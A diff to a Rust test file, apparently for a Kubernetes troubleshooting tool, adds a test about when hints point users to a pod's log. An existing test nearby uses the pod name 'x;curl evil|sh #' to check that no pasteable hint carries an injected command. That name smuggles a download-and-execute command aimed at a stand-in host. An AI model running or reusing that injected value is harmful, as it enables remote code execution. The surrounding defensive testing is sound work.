@@ -172,6 +172,25 @@ fn a_failure_is_told_in_its_own_words_only() {
 }
 
 #[test]
+fn nobody_is_sent_to_read_an_empty_log() {
+    let hint = |log: Option<&str>, message: &str| {
+        let mut patch = failed(3, "Error");
+        patch["status"]["containerStatuses"][0]["state"]["terminated"]["message"] = message.into();
+        let world = World::new().pod("x-1", &patch);
+        let world = match log {
+            Some(text) => world.log("x-1", "main", text),
+            None => world,
+        };
+        let hint = world.report().finding("container-failed").unwrap()["hint"].clone();
+        hint.as_str().unwrap_or_default().to_owned()
+    };
+    assert!(hint(Some(""), "").starts_with("it wrote nothing to its log"));
+    assert!(hint(None, "").starts_with("read its log: kubectl logs x-1"));
+    assert_eq!(hint(Some("no route to db"), ""), "");
+    assert_eq!(hint(Some(""), "its own words"), "");
+}
+
+#[test]
 fn no_hint_is_a_trap_to_paste() {
     let report = World::new().failed_pod("x;curl evil|sh #", 1, "Error").report();
     assert_eq!(report.finding("container-failed").unwrap().get("hint"), None);
